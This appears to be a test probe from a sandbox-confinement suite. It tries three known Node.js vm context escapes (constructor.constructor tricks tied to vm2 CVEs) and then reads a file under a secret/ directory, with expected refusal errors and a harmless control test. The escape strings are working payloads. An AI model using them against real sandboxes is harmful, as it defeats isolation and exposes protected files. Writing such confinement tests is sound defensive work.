// Route: Leaves a context of `vm` by the constructors of its objects, of an exception and of a function from outside.
// Known from: CVE-2023-29017, CVE-2023-30547 and CVE-2023-32314 (vm2) for objects of the host in a context
// Refused: EACCES, EPERM, ENOSYS
// Twin: evaluates a sum in a context
// Unconfined: works
import vm from 'node:vm';

const escapes = [
  `this.constructor.constructor('return process')()`,
  `(() => { try { (function f() { f(); })(); } catch (error) { return error.constructor.constructor('return process')(); } })()`,
  `host.constructor.constructor('return process')()`,
];
export const attempt = async ({ base }) => {
  for (const text of escapes) {
    let found;
    try {
      found = vm.runInNewContext(text, { host: () => undefined });
    } catch {
      continue;
    }
    const fs = found.getBuiltinModule?.('node:fs') ?? found.binding('fs');
    if (fs.readFileSync) return void fs.readFileSync(`${base}/secret/file`);
  }
  // Without getBuiltinModule, a function of the outer context imports.
  const fs = await import('node:fs');
  fs.readFileSync(`${base}/secret/file`);
};
export const twin = () => (vm.runInNewContext('1 + 1') === 2 ? 'ok' : 'none');
